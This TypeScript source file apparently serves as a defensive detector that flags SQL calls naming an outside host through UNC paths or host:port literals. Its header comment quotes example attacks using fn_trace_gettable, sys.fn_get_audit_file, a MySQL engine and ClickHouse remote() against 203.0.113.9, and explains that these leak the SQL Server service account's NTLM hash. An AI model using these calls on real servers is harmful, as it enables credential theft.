/**
 * A host outside the operator's network named as the argument of a call (red team r8): a UNC path
 * (`fn_trace_gettable('\\203.0.113.9\share\x.trc')`, `sys.fn_get_audit_file('\\host\...')`) makes
 * SQL Server open an SMB session there (and hand it the service account's NTLM hash); a `host:port`
 * (`ENGINE = MySQL('203.0.113.9:3306', ...)`, ClickHouse `remote('h:9000', ...)`) makes the server
 * connect to that database. Whatever the function or engine is called, the argument says where it goes.
 */

/** A host on the operator's own network: a private or loopback address, a bare or internal name. */
export const OWN_NETWORK =
  /^(?:localhost|127\.[\d.]+|10\.[\d.]+|192\.168\.[\d.]+|172\.(?:1[6-9]|2\d|3[01])\.[\d.]+|[\w-]+|[\w.-]+\.(?:internal|local|lan|corp|intranet|svc|cluster\.local|consul))$/i;

/** Cheap gate: a backslash pair or a `name:port` literal somewhere in the text. */
const GATE = /\\\\|'[\w.-]+\.[\w-]+:\d{1,5}'/;
/** A UNC path or a `host:port` (host an IPv4 address or a dotted name) as the whole literal. */
const REMOTE_LITERAL = /'(?:\\\\([^\\'/]+)[\\'][^']*|([a-z\d][\w-]*(?:\.[\w-]+)+):(\d{1,5}))'/gi;
/**
 * Text functions and keywords whose parentheses hold data, not a place: `lower('h.example:80')`,
 * `VALUES ('10.0.0.1:80')`, `IN ('a.b:1')`. Any other call that takes a place is told by its argument.
 */
const DATA_CALL =
  /^(?:values|in|lower|upper|concat|concat_ws|coalesce|nullif|trim|ltrim|rtrim|replace|substring|substr|split_part|left|right|length|format|quote_literal|quote_ident|md5|sha1|sha2|cast|convert|position|strpos|instr|locate|regexp_replace|regexp_substr|regexp_like|like|jsonb_build_object|json_build_object|json_object|array|row|greatest|least|if|iif|case|when|then|else|any|all|exists)$/i;

/** Statements whose bare arguments name places: EXEC/CALL of a procedure, RESTORE ... FROM DISK. */
const PROCEDURE = /^\s*(?:exec(?:ute)?|call|restore|bulk\s+insert)\b/i;

/** The word before the parenthesis that `at` sits inside (skipping earlier arguments), or undefined. */
function enclosingCall(text: string, at: number): string | undefined {
  let depth = 0;
  let quote = false;
  for (let i = at - 1; i >= 0 && at - i < 2000; i--) {
    const c = text[i]!;
    if (c === "'") quote = !quote;
    else if (quote) continue;
    else if (c === ')') depth++;
    else if (c === '(') {
      if (depth-- > 0) continue;
      const before = /([\w$.]+)\s*$/.exec(text.slice(Math.max(0, i - 200), i));
      return before?.[1]?.split('.').pop();
    } else if (c === ';') return undefined;
  }
  return undefined;
}

/** The outside host a call's argument names (a UNC path or host:port), or undefined. */
export function remoteArgument(text: string): string | undefined {
  if (!GATE.test(text)) return undefined;
  for (const m of text.matchAll(REMOTE_LITERAL)) {
    const host = (m[1] ?? m[2]!).toLowerCase();
    if (OWN_NETWORK.test(host)) continue;
    // Outside parentheses, a procedure's argument (`EXEC p @file = '\\h\s'`) or a restore source.
    const call = enclosingCall(text, m.index) ?? (PROCEDURE.test(text) ? 'procedure' : undefined);
    if (call === undefined || DATA_CALL.test(call)) continue;
    return m[1] !== undefined ? `\\\\${host}` : `${host}:${m[3]!}`;
  }
  return undefined;
}
